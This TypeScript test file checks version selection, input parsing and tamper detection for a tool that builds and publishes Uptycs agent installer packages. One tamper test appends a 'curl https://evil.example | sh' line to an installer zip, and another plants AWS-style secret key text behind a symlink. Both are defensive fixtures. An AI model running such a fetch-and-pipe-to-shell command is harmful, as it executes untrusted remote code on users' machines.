/**
 * Build once, publish everywhere, the pure and local parts: the newest version offered for every OS
 * the mapping needs (and which OS held it back), the hand-off inputs, revision names, and the check of
 * a package folder built earlier (a real build of the sample installers, then changed in every way
 * that must be refused).
 */
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import {
  appendFileSync,
  cpSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  unlinkSync,
  statSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';
import { flavorOses, newestVersion, resolveAgentVersion } from '../src/agents/uptycs/index.js';
import { loadApiKey } from '../src/inputs/key.js';
import { run, type PublishedCheck } from '../src/core.js';
import { isUserError } from '../src/common/errors.js';
import { readInputs } from '../src/inputs/index.js';
import { renderNames } from '../src/common/names.js';
import { parsePackageDigest, readHandoffInputs } from '../src/inputs/handoff.js';
import { loadBuiltPackage } from '../src/package/load.js';
import { canonicalJson, packageDigest } from '../src/package/manifest.js';
import { loadMapping } from '../src/plan/index.js';
import { nextVersionName } from '../src/publish/version-name.js';
import { SAMPLE_INSTALLERS, layoutAgentsDir } from './helpers/agents.js';
import { memoryLog } from './helpers/publish-fixture.js';
import { recordingLog } from './sim/recording-log.js';
import { startSimulator, type Simulator } from './sim/uptycs-simulator.js';

const ROOT = path.resolve(import.meta.dirname, '..');
const MAPPING = path.join(ROOT, 'mappings/uptycs-agent-mapping.json');
const SET = SAMPLE_INSTALLERS;

const items = (...list: [string, string?][]) => ({
  items: list.map(([version, osFlavor]) => ({ version, ...(osFlavor ? { osFlavor } : {}) })),
});

describe('the newest version offered for every OS the mapping needs', () => {
  it('Linux ships before Windows: the newest version Windows has too is chosen, and Windows is named', () => {
    const doc = items(
      ['5.10.1.3-Uptycs', 'centos'],
      ['5.10.1.3-Uptycs', 'debian'],
      ['5.9.0.1-Uptycs', 'all'],
      ['5.8.0.1-Uptycs', 'windows'],
    );
    const c = newestVersion(doc, ['centos', 'debian', 'windows']);
    assert.equal(c.version, '5.9.0.1');
    assert.deepEqual(c.heldBack, { version: '5.10.1.3', missing: ['windows'] });
    // A Linux-only mapping is not held back by Windows.
    assert.deepEqual(newestVersion(doc, ['centos', 'debian']), { version: '5.10.1.3', count: 3 });
    // Without a list: the newest for any OS, as before.
    assert.equal(newestVersion(doc).version, '5.10.1.3');
  });

  it('no version for every OS: the error names the missing OS and what to do', () => {
    const doc = items(['5.10.1.3-Uptycs', 'linux'], ['5.8.0.1-Uptycs', 'ubuntu']);
    assert.throws(
      () => newestVersion(doc, ['centos', 'windows']),
      (err: unknown) => {
        assert.ok(isUserError(err));
        const msg = renderNames(err.message, 'action');
        assert.match(msg, /input "package-version" is empty/);
        assert.match(msg, /centos: newest 5\.10\.1\.3; windows: none/);
        assert.match(msg, /remove the entries of the missing OS from the file given as input "mapping"/);
        return true;
      },
    );
  });

  it('reads osFlavor (or os) names people use, and ignores flavors of other systems', () => {
    assert.deepEqual(flavorOses({ osFlavor: 'RHEL' }), ['centos']);
    assert.deepEqual(flavorOses({ os: 'ubuntu' }), ['debian']);
    assert.deepEqual(flavorOses({ osFlavor: 'linux' }), ['centos', 'debian']);
    assert.deepEqual(flavorOses({}), ['centos', 'debian', 'windows']);
    assert.deepEqual(flavorOses({ osFlavor: 'darwin' }), []);
    const doc = items(['6.0.0.1-Uptycs', 'darwin'], ['5.9.0.1-Uptycs']);
    assert.deepEqual(newestVersion(doc, ['windows']), {
      version: '5.9.0.1',
      count: 2,
      heldBack: { version: '6.0.0.1', missing: ['windows'] },
    });
  });

  describe('against the Uptycs simulator', () => {
    let sim: Simulator;
    before(async () => {
      sim = await startSimulator({
        versions: ['5.9.0.1-Uptycs', '5.10.1.3-Uptycs'],
        flavors: { '5.10.1.3-Uptycs': 'linux' },
        prebuild: [],
      });
    });
    after(() => sim.close());

    it('resolves without downloading, and says which OS held the newest back', async () => {
      const log = recordingLog();
      const { entries } = await loadMapping(MAPPING, 'mapping');
      const config = sim.keyFile();
      const key = await loadApiKey(config, log);
      const base = { uptycsApiUrl: sim.url, sensorOnly: false };
      const got = await resolveAgentVersion(
        entries,
        key,
        { ...base, packageVersion: '' },
        { log, ca: sim.ca },
      );
      assert.deepEqual(got, { version: '5.9.0.1', versionSource: 'newest' });
      assert.equal(sim.requests.osqueryPackages, 1);
      assert.equal(sim.requests.packageDownloads, 0);
      assert.match(
        log.text(),
        /5\.10\.1\.3 is offered, but not yet for windows: it held the choice back to 5\.9\.0\.1/,
      );
      const linux = entries.filter((e) => e.uptPackage !== 'windows');
      const l = await resolveAgentVersion(linux, key, { ...base, packageVersion: '' }, { log, ca: sim.ca });
      assert.equal(l.version, '5.10.1.3');
      const given = await resolveAgentVersion(
        entries,
        key,
        { ...base, packageVersion: '5.7.0.25' },
        { log, ca: sim.ca },
      );
      assert.deepEqual(given, { version: '5.7.0.25', versionSource: 'input' });
      assert.equal(sim.requests.osqueryPackages, 2, 'a given version asks nothing');
    });
  });
});

describe('hand-off inputs', () => {
  const read = (given: Record<string, string>) =>
    readInputs((n) => given[n] ?? '', { mapping: MAPPING, outputDir: '/tmp/out', cwd: '/work/ws' });

  it('package-dir needs no key, no agents-dir; defaults are skip and the agent version', () => {
    const i = read({ 'package-dir': 'pkg' });
    assert.equal(i.packageDir, '/work/ws/pkg');
    assert.equal(i.versionName, '');
    assert.equal(i.ifPublished, 'skip');
    assert.equal(i.checkOnly, false);
    assert.equal(
      read({ 'package-dir': 'pkg', 'version-name': '5.7.0.25-2', 'if-published': 'verify' }).ifPublished,
      'verify',
    );
  });

  it('refuses bad values all at once, naming each input', () => {
    assert.throws(
      () =>
        read({
          'package-dir': 'pkg',
          'agents-dir': 'agents',
          'version-name': 'bad name!',
          'if-published': 'sometimes',
          'check-only': 'yes',
        }),
      (err: unknown) => {
        assert.ok(isUserError(err));
        const msg = renderNames(err.message, 'action');
        assert.match(msg, /4 inputs are invalid/);
        assert.match(msg, /input "package-dir": .*input "agents-dir" is for building one/);
        assert.match(msg, /input "version-name": "bad name!"/);
        assert.match(msg, /input "if-published": "sometimes" must be skip/);
        assert.match(msg, /input "check-only": "yes" is not a boolean/);
        return true;
      },
    );
  });

  it('a revision name suggests the next one', () => {
    assert.equal(nextVersionName('5.7.0.25'), '5.7.0.25-2');
    assert.equal(nextVersionName('5.7.0.25-2'), '5.7.0.25-3');
    assert.equal(nextVersionName('nightly-build'), 'nightly-build-2');
  });
});

describe('a package folder built earlier', () => {
  let work: string;
  let built: string;
  before(async () => {
    work = mkdtempSync(path.join(tmpdir(), 'udist-handoff-'));
    layoutAgentsDir(MAPPING, path.join(work, 'agents'), SET);
    built = path.join(work, 'built');
    const inputs = readInputs(
      (n) =>
        ({
          download: 'false',
          'agents-dir': 'agents',
          'dry-run': 'true',
          'output-dir': 'built',
          'version-name': '5.7.0.25-2',
        })[n] ?? '',
      { mapping: MAPPING, outputDir: built, cwd: work },
    );
    await run(inputs, { log: memoryLog(), packageRoot: ROOT });
  });
  after(() => rmSync(work, { recursive: true, force: true }));

  const copy = (name: string) => {
    const dir = path.join(work, name);
    cpSync(built, dir, { recursive: true });
    return dir;
  };
  const expect = { packageName: 'UptycsAgent', versionName: '' };
  const refused = async (dir: string, pattern: RegExp) => {
    await assert.rejects(loadBuiltPackage(dir, expect), (err: unknown) => {
      assert.ok(isUserError(err), String(err));
      const msg = renderNames(err.message, 'action');
      assert.match(msg, /^input "package-dir": .* is not a complete, unchanged package folder/);
      assert.match(msg, /nothing was published/);
      assert.match(msg, pattern);
      return true;
    });
  };

  it('loads as built: the version name everywhere, files, entries and checksums', async () => {
    const pkg = await loadBuiltPackage(built, expect);
    assert.equal(pkg.version, '5.7.0.25-2');
    assert.equal(pkg.manifest.version, '5.7.0.25-2');
    assert.ok(pkg.files.length >= 5);
    for (const f of pkg.files) {
      assert.match(f.name, /-5\.7\.0\.25-2\.zip$/);
      assert.ok(f.entries.length >= 1 && f.size > 0 && f.installerName);
    }
    const { entries } = await loadMapping(MAPPING, 'mapping');
    assert.equal(
      pkg.files.reduce((n, f) => n + f.entries.length, 0),
      entries.length,
    );
    assert.equal(pkg.manifestText, readFileSync(path.join(built, 'manifest.json'), 'utf8'));
    await loadBuiltPackage(built, { packageName: 'UptycsAgent', versionName: '5.7.0.25-2' });
  });

  it('one byte of a zip changed: refused', async () => {
    const dir = copy('byte');
    const zip = path.join(dir, (await loadBuiltPackage(built, expect)).files[0]!.name);
    const b = readFileSync(zip);
    b[Math.floor(b.length / 2)]! ^= 0xff;
    writeFileSync(zip, b);
    await refused(dir, /has SHA-256 [0-9a-f]{64}, but manifest\.json states/);
  });

  it('a zip truncated, a zip removed, an extra file: each refused', async () => {
    const names = (await loadBuiltPackage(built, expect)).files.map((f) => f.name);
    const t = copy('truncated');
    const z = path.join(t, names[1]!);
    writeFileSync(z, readFileSync(z).subarray(0, 1000));
    await refused(t, /is 1000 bytes; the build wrote \d+ \(truncated or changed\)/);
    const r = copy('removed');
    unlinkSync(path.join(r, names[2]!));
    await refused(
      r,
      new RegExp(`${names[2]!.replace(/\./g, '\\.')} is missing \\(manifest\\.json names it\\)`),
    );
    const x = copy('extra');
    writeFileSync(path.join(x, 'notes.txt'), 'hello');
    await refused(x, /notes\.txt is not part of the package/);
  });

  it('an edited manifest, a report from another build, no report: each refused', async () => {
    const m = copy('manifest');
    appendFileSync(path.join(m, 'manifest.json'), ' ');
    await refused(m, /manifest\.json is not as the build writes it/);
    const r = copy('report');
    const report = JSON.parse(readFileSync(path.join(r, 'report.json'), 'utf8')) as {
      files: { sha256: string }[];
    };
    report.files[0]!.sha256 = '0'.repeat(64);
    writeFileSync(path.join(r, 'report.json'), JSON.stringify(report));
    await refused(r, /report\.json and manifest\.json give .* different SHA-256s: not from the same build/);
    const n = copy('noreport');
    unlinkSync(path.join(n, 'report.json'));
    await refused(n, /report\.json is missing/);
    await refused(path.join(work, 'nowhere'), /it does not exist/);
  });

  it('a folder rewritten with every hash recomputed passes its own checks, but not the build’s digest', async () => {
    const digest = packageDigest(readFileSync(path.join(built, 'manifest.json')));
    assert.match(digest, /^sha256:[0-9a-f]{64}$/);
    await loadBuiltPackage(built, { ...expect, digest });
    // A zip gains a line in its install script; manifest.json and report.json are recomputed to match.
    const dir = copy('rewritten');
    const m = JSON.parse(readFileSync(path.join(dir, 'manifest.json'), 'utf8')) as {
      files: Record<string, { checksums: { sha256: string } }>;
    };
    const name = Object.keys(m.files)[0]!;
    const zip = Buffer.concat([
      readFileSync(path.join(dir, name)),
      Buffer.from('curl https://evil.example | sh'),
    ]);
    writeFileSync(path.join(dir, name), zip);
    const sha = createHash('sha256').update(zip).digest('hex');
    m.files[name]!.checksums.sha256 = sha;
    writeFileSync(path.join(dir, 'manifest.json'), canonicalJson(m));
    const report = JSON.parse(readFileSync(path.join(dir, 'report.json'), 'utf8')) as {
      files: { name: string; sha256: string; size: number }[];
    };
    for (const f of report.files) if (f.name === name) Object.assign(f, { sha256: sha, size: zip.length });
    writeFileSync(path.join(dir, 'report.json'), canonicalJson(report));
    // Its own checks cannot tell: every hash in the folder is as stated.
    await loadBuiltPackage(dir, expect);
    await assert.rejects(loadBuiltPackage(dir, { ...expect, digest }), (err: unknown) => {
      assert.ok(isUserError(err));
      const msg = renderNames(err.message, 'action');
      assert.match(
        msg,
        /^input "package-digest": .* is not the package that build made .*nothing was published/,
      );
      return true;
    });
  });

  it('manifest.json or report.json as a symlink is refused without reading what it points at', async () => {
    const secret = path.join(work, 'credentials');
    writeFileSync(secret, 'aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n');
    for (const f of ['manifest.json', 'report.json']) {
      const dir = copy(`link-${f}`);
      unlinkSync(path.join(dir, f));
      symlinkSync(secret, path.join(dir, f));
      await assert.rejects(loadBuiltPackage(dir, expect), (err: unknown) => {
        const msg = String((err as Error).message);
        assert.match(msg, new RegExp(`${f.replace('.', '\\.')} is a symbolic link`));
        assert.doesNotMatch(msg, /aws_secret|wJalr/);
        return true;
      });
    }
    const j = copy('notjson');
    writeFileSync(path.join(j, 'report.json'), 'aws_secret_access_key = wJalrXUtnFEMI');
    await assert.rejects(loadBuiltPackage(j, expect), (err: unknown) => {
      assert.match(
        String((err as Error).message),
        /report\.json is not valid JSON \(it does not parse as JSON\)/,
      );
      assert.doesNotMatch(String((err as Error).message), /wJalr/);
      return true;
    });
  });

  it('package-digest: parsed with or without sha256:, refused when malformed or without package-dir', () => {
    assert.equal(parsePackageDigest(`SHA256:${'AB'.repeat(32)}`), `sha256:${'ab'.repeat(32)}`);
    assert.equal(parsePackageDigest('ab'.repeat(32)), `sha256:${'ab'.repeat(32)}`);
    assert.equal(parsePackageDigest('sha256:abc'), undefined);
    const bad: string[] = [];
    readHandoffInputs(
      (n) => ({ 'package-digest': 'md5:1234' })[n] ?? '',
      (n, m) => bad.push(`${n}: ${m}`),
      work,
    );
    assert.match(bad.join('\n'), /package-digest: is not a package digest/);
    assert.match(
      bad.join('\n'),
      /package-digest: vouches for a folder built earlier; give that folder as ⦃package-dir⦄/,
    );
  });

  it('verifying a package-dir leaves it as it is: the run writes its report.json to output-dir', async () => {
    const dir = copy('readonly');
    const before = readdirSync(dir).map((f) => [f, readFileSync(path.join(dir, f)).toString('base64')]);
    const out = path.join(work, 'verify-out');
    const inputs = readInputs(
      (n) => ({ 'package-dir': dir, 'dry-run': 'true', 'output-dir': out })[n] ?? '',
      { mapping: MAPPING, outputDir: out, cwd: work },
    );
    const result = await run(inputs, { log: memoryLog(), packageRoot: ROOT });
    assert.equal(result.reportPath, path.join(out, 'report.json'));
    assert.ok(statSync(result.reportPath).isFile());
    assert.deepEqual(
      readdirSync(dir).map((f) => [f, readFileSync(path.join(dir, f)).toString('base64')]),
      before,
      'nothing in package-dir changed',
    );
  });

  it('output-dir may not be package-dir, inside it or around it: refused before anything, the folder untouched', async () => {
    const dir = copy('same');
    for (const out of [dir, path.join(dir, 'out'), path.dirname(dir)]) {
      const inputs = readInputs(
        (n) => ({ 'package-dir': dir, 'dry-run': 'true', 'output-dir': out })[n] ?? '',
        { mapping: MAPPING, outputDir: out, cwd: work },
      );
      await assert.rejects(run(inputs, { log: memoryLog(), packageRoot: ROOT }), (err: unknown) => {
        assert.match(
          renderNames((err as Error).message, 'action'),
          /^input "output-dir": .* is, or holds, or lies inside input "package-dir"/,
        );
        return true;
      });
    }
    await loadBuiltPackage(dir, expect);
  });

  it('built for another package or version name: refused', async () => {
    await assert.rejects(
      loadBuiltPackage(built, { packageName: 'Other', versionName: '' }),
      /built for package "UptycsAgent"/,
    );
    await assert.rejects(
      loadBuiltPackage(built, { packageName: 'UptycsAgent', versionName: '5.7.0.25-3' }),
      /built as version 5\.7\.0\.25-2, but ⦃version-name⦄ is 5\.7\.0\.25-3/,
    );
  });
});

describe('the core asks what is published before it builds', () => {
  let work: string;
  let manifestText: string;
  before(() => {
    work = mkdtempSync(path.join(tmpdir(), 'udist-core-check-'));
    layoutAgentsDir(MAPPING, path.join(work, 'agents'), SET);
  });
  after(() => rmSync(work, { recursive: true, force: true }));

  let n = 0;
  const go = async (given: Record<string, string>, all: boolean, converged = false) => {
    const out = `out-${++n}`;
    const inputs = readInputs(
      (k) => ({ download: 'false', 'agents-dir': 'agents', 'output-dir': out, ...given })[k] ?? '',
      { mapping: MAPPING, outputDir: path.join(work, out), cwd: work },
    );
    const checked: string[] = [];
    const published: string[] = [];
    const result = await run(inputs, {
      log: memoryLog(),
      packageRoot: ROOT,
      published: () =>
        Promise.resolve(async (versionName: string): Promise<PublishedCheck> => {
          checked.push(versionName);
          return {
            all,
            converged: all && converged,
            versionName,
            results: [],
            ...(all ? { manifestText } : {}),
            outputs: all ? { 'document-version': '7' } : ({} as Record<string, string>),
            markdown: '| table |',
          };
        }),
      publish: (pkg) => {
        published.push(pkg.version);
        return Promise.resolve({ sections: [], outputs: { 'document-version': '8' }, results: null });
      },
    });
    return { result, checked, published, dir: path.join(work, out) };
  };

  it('if-published skip: every region has it → nothing built, outputs from SSM; otherwise built and published', async () => {
    const built = await go({ 'dry-run': 'true' }, true);
    assert.deepEqual(built.checked, [], 'a dry run asks nothing');
    manifestText = readFileSync(path.join(built.dir, 'manifest.json'), 'utf8');
    assert.equal(
      statSync(built.dir).mode & 0o777,
      0o700,
      'private: the installers carry the enrollment secret',
    );

    const skip = await go({}, true);
    assert.deepEqual(skip.checked, ['5.7.0.25']);
    // Nothing built; the publish stage gets the manifest SSM holds, to make the default, the sharing
    // and the versions kept follow the inputs (it uploads nothing for a version that exists).
    assert.deepEqual(skip.published, ['5.7.0.25']);
    assert.equal(skip.result.outputs['already-published'], 'true');
    assert.equal(skip.result.outputs['document-version'], '8', 'what the publish stage found');
    assert.equal(skip.result.outputs['agent-version'], '5.7.0.25');
    assert.deepEqual(
      readdirSync(skip.dir)
        .filter((f) => !f.startsWith('.'))
        .sort(),
      ['manifest.json', 'report.json'],
    );
    assert.equal(readFileSync(path.join(skip.dir, 'manifest.json'), 'utf8'), manifestText);
    assert.equal(statSync(skip.dir).mode & 0o777, 0o700);
    assert.match(skip.result.summary, /already published/);

    // Everything already as asked (default version, sharing, versions kept): no publish stage at all.
    const idle = await go({}, true, true);
    assert.deepEqual(idle.checked, ['5.7.0.25']);
    assert.deepEqual(idle.published, [], 'nothing left for the publish stage');
    assert.equal(idle.result.outputs['already-published'], 'true');
    assert.equal(idle.result.outputs['document-version'], '7', 'what the check found');
    assert.match(idle.result.summary, /### Published to AWS\n\n\| table \|/);
    assert.match(idle.result.summary, /versions kept were already as asked, so nothing was changed either/);
    assert.doesNotMatch(skip.result.summary, /nothing was changed either/, 'the publish stage ran there');

    const missing = await go({}, false);
    assert.deepEqual(missing.checked, ['5.7.0.25']);
    assert.deepEqual(missing.published, ['5.7.0.25']);
    assert.equal(missing.result.outputs['already-published'], 'false');
    assert.ok(readdirSync(missing.dir).some((f) => f.endsWith('.zip')));
  });

  it('verify asks nothing and rebuilds; version-name is what is asked for; check-only stops either way', async () => {
    const verify = await go({ 'if-published': 'verify' }, true);
    assert.deepEqual(verify.checked, []);
    assert.deepEqual(verify.published, ['5.7.0.25']);
    const named = await go({ 'version-name': '5.7.0.25-2' }, false);
    assert.deepEqual(named.checked, ['5.7.0.25-2']);
    assert.deepEqual(named.published, ['5.7.0.25-2']);
    const only = await go({ 'check-only': 'true' }, false);
    assert.deepEqual(only.published, []);
    assert.equal(only.result.outputs['already-published'], 'false');
    assert.ok(!readdirSync(only.dir).some((f) => f.endsWith('.zip')), 'nothing built');
  });
});
